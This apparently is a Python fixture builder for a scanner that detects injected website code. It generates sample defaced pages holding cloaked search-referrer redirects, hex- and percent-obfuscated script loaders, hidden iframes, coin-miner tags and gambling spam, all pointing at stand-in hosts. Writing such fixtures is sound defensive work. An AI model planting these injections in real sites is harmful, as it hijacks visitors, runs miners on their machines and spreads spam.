"""Pages that someone else writes on: write-ups of campaigns, fixtures of scanners, a changed site's head.

Where a script is both a trick and a way to load a stranger's script, either name will do (`a|b`).
"""

from __future__ import annotations

from .checks_codes import entities, hexes, packed, percents
from .checks_frames import ARTICLE, HOME, NAME, TEXT, article, bare, home, script, sheet, single

EITHER = "foreign_script|script_trick"
GAMES = "https://www.jinlong-5598.example/"
LOADER = "https://www.cpdas-mk.example/x8/k8.js"
DIGGER = '<script src="https://coin-dig.example/lib/miner.min.js"></script>'
DIG_START, DIG_END = (
    "<script type='text/javascript' src='https://dig-hive.example/lib/m.min.js?rnd=",
    "'></script>",
)
TITLE = "北京赛车pk10投注平台_官方授权入口"


def put(name: str, html: str, *seen: str, url: str = HOME) -> None:
    """A page and the observations of `injection` on it."""
    single(f"injected/{name}", url, html, injection=list(seen))


def titles() -> None:
    keywords = f'<meta name="keywords" content="{entities("北京赛车投注 pk10平台")}"><meta name="description" content="{entities("专业提供赛车下注、时时彩、幸运飞艇")}">'
    swap = script(
        f'if(navigator.userAgent.toLocaleLowerCase().indexOf("baidu") == -1){{document.title ="{NAME}"}}'
    )
    put(
        "head_of_a_changed_site",
        home(
            "",
            title=entities(TITLE),
            head=keywords
            + swap
            + script(packed(f'<script type="text/javascript" src="{LOADER}"></script>')),
        ),
        "page_defaced",
        EITHER,
    )
    put(
        "title_for_four_spiders",
        home(
            "",
            title=entities(TITLE),
            head=script(
                f"if(!navigator.userAgent.match(/baiduspider|sogou|360spider|yisou/i)){{document.title ='{NAME}'}}"
            ),
        ),
        "page_defaced",
        "script_trick",
    )
    put(
        "description_that_sells",
        home(
            "",
            head='<meta name="description" content="霜林交通百家乐（www.slbjl.example）澳门赌场旗下博彩门户，为您提供百家乐、全讯网、足球投注等服务，欢迎光临">',
        ),
        "page_defaced",
    )
    put(
        "page_of_those_who_broke_in",
        bare(
            "<h1>Hacked By N0rthWind Team</h1><p>your security is low, admin!</p>",
            "Hacked By N0rthWind",
        ),
        "page_defaced",
    )
    put(
        "article_that_sells",
        article(
            title="时时彩平台开户送彩金_pk10投注官网",
            text="<p>时时彩平台开户即送彩金，北京赛车pk10投注官网，注册就送88元，百家乐真人荷官在线发牌，提现秒到账。</p><p>足球投注、棋牌游戏、电子老虎机应有尽有，信誉平台，欢迎下载手机APP。</p>",
        ),
        "page_defaced",
        url=ARTICLE,
    )


def those_who_searched() -> None:
    engines = r"var regexp=/\.(sogou|soso|google|baidu|youdao|yahoo|bing|so|sm|biso)(\.[a-z0-9\-]+){1,2}\//ig;"
    put(
        "those_who_searched_are_led_away",
        home(
            "",
            head=script(
                f'{engines}var where =document.referrer;if(regexp.test(where)){{location.href="{GAMES}mxc.html";}}'
            ),
        ),
        "script_trick",
    )
    words = ",".join(
        f'"{hexes(w)}"'
        for w in ("referrer", "test", "href", "location", "http://203.0.113.41/a/1.html")
    )
    put(
        "those_who_searched_by_a_list_of_words",
        home(
            "",
            head=script(
                f"var __Ox43=[{words}];{engines}var where=document[__Ox43[0x0]];if(regexp[__Ox43[0x1]](where)){{window[__Ox43[0x3]][__Ox43[0x2]]= __Ox43[0x4]}}"
            ),
        ),
        "script_trick",
    )
    put(
        "page_that_opened_it_is_led_away",
        home(
            "",
            head=script(
                'if(window.opener){if(document.referrer.indexOf("baidu.com") != -1){window.opener.location.href = "http://www.baidu.com.shuanglin.jieliu-site.example/s?wd=youcha";}}'
            ),
        ),
        "script_trick",
    )
    put(
        "link_that_clicks_itself",
        home(
            "",
            after=script(
                f'if(document.referrer.indexOf("baidu.com") != -1){{a = document.createElement("a");a.href = "{GAMES}";a.target = "_blank";a.click();}}'
            ),
        ),
        "script_trick",
    )
    put(
        "by_night_and_after_a_search",
        home(
            "",
            head=script(
                f"var now=new Date();var hours=now.getHours();if(hours>=18||hours<=7){{if(window.self==window.top){{window.location.href='{GAMES}object.php?u='+window.location.href+'&title='+document.title;}}}}"
            ),
        ),
        "script_trick",
    )
    mobile = hexes("userAgent")
    put(
        "telephones_once_a_day",
        home(
            "",
            head=script(
                f"!(function(){{function isMobile(){{return/Android|webOS|iPhone|iPad|iPod|BlackBerry/i['{hexes('test')}'](navigator['{mobile}'])}}function hasCookie(n){{return document['{hexes('cookie')}']['{hexes('indexOf')}'](n)!==-1}}if(isMobile()&&!hasCookie('vst')){{document.cookie='vst=1;path=/';window['{hexes('location')}']['{hexes('href')}']='{hexes(GAMES)}'}}}})();"
            ),
        ),
        "script_trick",
    )


def loaders() -> None:
    put(
        "coin_digger_in_percents",
        home(
            "",
            head=script(f"document.write(unescape('{percents(DIGGER)}'));"),
        ),
        EITHER,
    )
    put(
        "written_with_a_number_by_chance",
        home(
            "",
            after=script(
                f'window["{hexes("document")}"]["{hexes("write")}"]("{hexes(DIG_START)}"+window["{hexes("Math")}"]["{hexes("random")}"]()+"{hexes(DIG_END)}");'
            ),
        ),
        EITHER,
    )
    put(
        "frame_of_no_size",
        home("<iframe src=http://www.muma-kj.example/ width=0 height=0></iframe>"),
        "foreign_script",
    )
    put(
        "frame_of_no_size_written",
        home(
            script(
                "document.write(\"<iframe width='0' height='0' src='http://www.muma-kj.example/'></iframe>\");"
            )
        ),
        EITHER,
    )
    put(
        "script_in_an_old_code",
        home(
            '<script language="JScript.Encode" src="http://www.muma-kj.example/muma.txt"></script>'
        ),
        "foreign_script",
    )
    put(
        "text_of_the_page_with_a_frame_more",
        home(
            script(
                "top.document.body.innerHTML = top.document.body.innerHTML+'<iframe src=\"http://www.muma-kj.example/muma.html\"></iframe>';"
            )
        ),
        EITHER,
    )
    put(
        "background_that_is_a_script",
        home(
            "",
            head=sheet(
                "body{background-image:url('javascript:document.write(\"<script src=http://www.muma-kj.example/muma.js></script>\")')}"
            ),
        ),
        EITHER,
    )
    put(
        "second_frame_of_no_height",
        f'<html><head><title>{NAME}</title></head><frameset rows="444,0" cols="*"><frame src="/slx/index.html" frameborder="no" scrolling="auto" noresize><frame src="http://www.muma-kj.example/" frameborder="no" scrolling="no" noresize></frameset></html>',
        "foreign_script",
    )
    put(
        "counter_that_is_not_the_counter",
        home(
            '<script type="text/javascript" src="https://js.users.5l-la.example/20145157.js"></script>'
        ),
        "foreign_script",
    )
    put(
        "library_that_is_not_the_library",
        home(
            '<script src="//cdn.jsdeliver-net.example/npm/jquery@3.6.0/dist/jquery.min.js"></script>'
        ),
        "foreign_script",
    )
    put("tag_behind_the_end", home("", after=f"<script src={LOADER}></script>"), "foreign_script")


def everybody() -> None:
    put(
        "body_that_leads_away",
        home("").replace("<body>", f"<body onload=\"window.location='{GAMES}'\">"),
        "script_trick",
    )
    put(
        "away_in_no_time",
        home(script(f"setTimeout(\"window.location='{GAMES}'\",0.1);")),
        "script_trick",
    )
    put(
        "away_by_the_head",
        home("", head=f'<meta http-equiv="refresh" content="1; url={GAMES}">'),
        "script_trick",
    )
    put(
        "window_by_letters",
        home(
            script(
                "function comb(){var h='h',t='t',p='p',s=':',l='/',w='w',d='.',a='a';var url=h+t+t+p+s+l+l+w+w+w+d+'jinlong-5598'+d+'example';window.location.href=url;}comb();"
            )
        ),
        "script_trick",
    )
    put(
        "window_of_one_dot",
        home(
            script(
                'window.open("http://www.muma-kj.example/","","toolbar=no,location=no,directories=no,status=no,menubar=no,scrollbars=no,width=1,height=1");'
            )
        ),
        "script_trick",
    )


def build() -> None:
    titles()
    those_who_searched()
    loaders()
    everybody()
    single(
        "injected/one_link_that_sells_in_an_article",
        ARTICLE,
        article(text=TEXT + f'<p><img src="x" onerror="location=\'{GAMES}\'"></p>'),
        injection=["script_trick"],
    )
